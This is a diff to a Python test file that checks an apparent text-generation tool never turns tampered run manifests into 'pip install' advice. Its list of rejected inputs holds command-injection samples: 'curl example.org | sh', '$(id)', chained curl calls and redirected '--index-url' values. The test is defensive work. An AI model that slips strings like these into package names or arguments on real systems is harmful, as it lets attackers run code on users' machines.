@@ -13,9 +13,9 @@ from fake_components import BUNDLED, Cut, Plain, component, plugin, registry
 from textgen_core.config.resolve import Configuration, configure
 from textgen_core.config.sources import NO_RECIPE
 from textgen_core.errors import RunDirectoryError
-from textgen_core.registry.registry import Component, Registry
+from textgen_core.registry.registry import Component, Registry, install_command
 from textgen_core.runs.directory import RunDirectory
-from textgen_core.runs.files import write_json, write_toml
+from textgen_core.runs.files import read_json, write_json, write_toml
 from textgen_core.runs.manifest import (
     changed_files,
     check_settings,
@@ -95,7 +95,45 @@ def test_a_version_that_nobody_knows_is_not_asked_of_pip(tmp_path: Path) -> None
     assert warnings == (f"{tmp_path} was made with textgen-example unknown; installed is 1.0.",)
     with pytest.raises(RunDirectoryError) as caught:
         load_configuration(run, registry())
-    assert caught.value.advice.startswith("Install it: pip install textgen-example (")
+    advice = "Install it, if you trust its author: pip install textgen-example ("
+    assert caught.value.advice.startswith(advice)
+
+
+STRANGE = [
+    ("x; curl example.org | sh", "1.0"),
+    ("--index-url=https://example.org", "1.0"),
+    ("textgen-x --index-url https://example.org", "1.0"),
+    ("x\n", "1.0"),
+    ("$(id)", "1.0"),
+    ("\u212aelvin", "1.0"),
+    ("x" * 200, "1.0"),
+    ("textgen-x", "1.0; curl example.org"),
+    ("textgen-x", "1.0 --index-url x"),
+    ("textgen-x", "latest"),
+    ("textgen-x @ https://example.org/x.whl", "1.0"),
+    ("textgen-core", "1.0 $(id)"),
+]
+
+
+def test_no_advice_is_made_of_a_strangers_words(tmp_path: Path) -> None:
+    run, _ = made(tmp_path, registry(OWN), sampler="own")
+    manifest = read_json(run.manifest)
+    for distribution, version in STRANGE:
+        changed = {"distribution": distribution, "version": version}
+        components = [
+            {**each, **(changed if each["name"] == "own" else {})}
+            for each in manifest["components"]
+        ]
+        write_json(run.manifest, {**manifest, "components": components})
+        with pytest.raises(RunDirectoryError, match="which is") as caught:
+            load_configuration(run, registry())
+        assert (caught.value.allowed, caught.value.advice) == ("", ""), changed
+
+
+def test_versions_of_every_valid_form_are_asked_of_pip() -> None:
+    for version in ("1.0", "1.0rc1", "2024.1.post2", "1!2.0", "1.0+local.1", "1.0.dev3"):
+        assert install_command("textgen-x", version) == f"pip install textgen-x=={version}"
+    assert install_command("Text_gen.x", "unknown") == "pip install Text_gen.x"
 
 
 # ---- settings that a resumed run has to keep --------------------------------------------------
